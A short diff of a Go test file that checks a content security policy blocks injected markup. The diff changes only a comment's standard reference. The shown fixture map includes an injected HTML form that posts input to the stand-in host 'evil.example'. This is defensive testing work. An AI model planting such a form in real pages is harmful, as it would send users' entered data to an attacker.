@@ -52,7 +52,7 @@ var injected = map[string]string{
 	`<form id="lure" action="https://evil.example/in" method="post"><input name="a"></form>`: "form-action",
 }
 
-// Whatever got into a page does not run, load or send: the policy says no to each (V3.4.3, V3.4.7). The pages stand for
+// Whatever got into a page does not run, load or send: the policy says no to each (V3.4.3). The pages stand for
 // every class of request, with script and without.
 func TestInjectedMarkupIsBlocked(t *testing.T) {
 	t.Parallel()
